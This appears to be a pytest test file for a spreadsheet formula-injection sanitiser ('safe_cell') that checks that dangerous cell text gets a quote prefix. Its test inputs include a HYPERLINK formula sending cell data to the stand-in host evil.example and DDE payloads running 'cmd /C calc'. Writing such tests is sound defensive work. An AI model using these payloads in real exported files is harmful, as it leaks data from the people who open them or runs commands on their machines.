from __future__ import annotations

import csv
import decimal
import io

import pytest

from safeguard.core.spreadsheets import csv_lines, csv_text, safe_cell


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("https://evil.example/?"&A1,"Open")',
        "+44 20 7946 0000",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
        "-3",
    ],
)
def test_text_that_a_spreadsheet_would_evaluate_is_made_text(text):
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize("value", [-3, -2.5, decimal.Decimal("-1.50"), 0, True])
def test_real_numbers_stay_numbers(value):
    assert safe_cell(value) is value


@pytest.mark.parametrize("text", ["Mother called", "", "1+1=2", '{"a": 1}', "'quoted"])
def test_ordinary_text_is_unchanged(text):
    assert safe_cell(text) == text


def test_none_is_an_empty_cell():
    assert safe_cell(None) == ""


def test_csv_lines_escape_every_cell_and_keep_the_csv_valid():
    rows = [["kind", "detail"], ["read", '=HYPERLINK("x","y")'], ["read", "fine, with a comma"]]
    parsed = list(csv.reader(io.StringIO("".join(csv_lines(rows)))))
    assert parsed == [["kind", "detail"], ["read", '\'=HYPERLINK("x","y")'], ["read", "fine, with a comma"]]


def test_csv_text_writes_negative_numbers_as_numbers():
    assert csv_text([[-3, "-3"]]) == "-3,'-3\r\n"
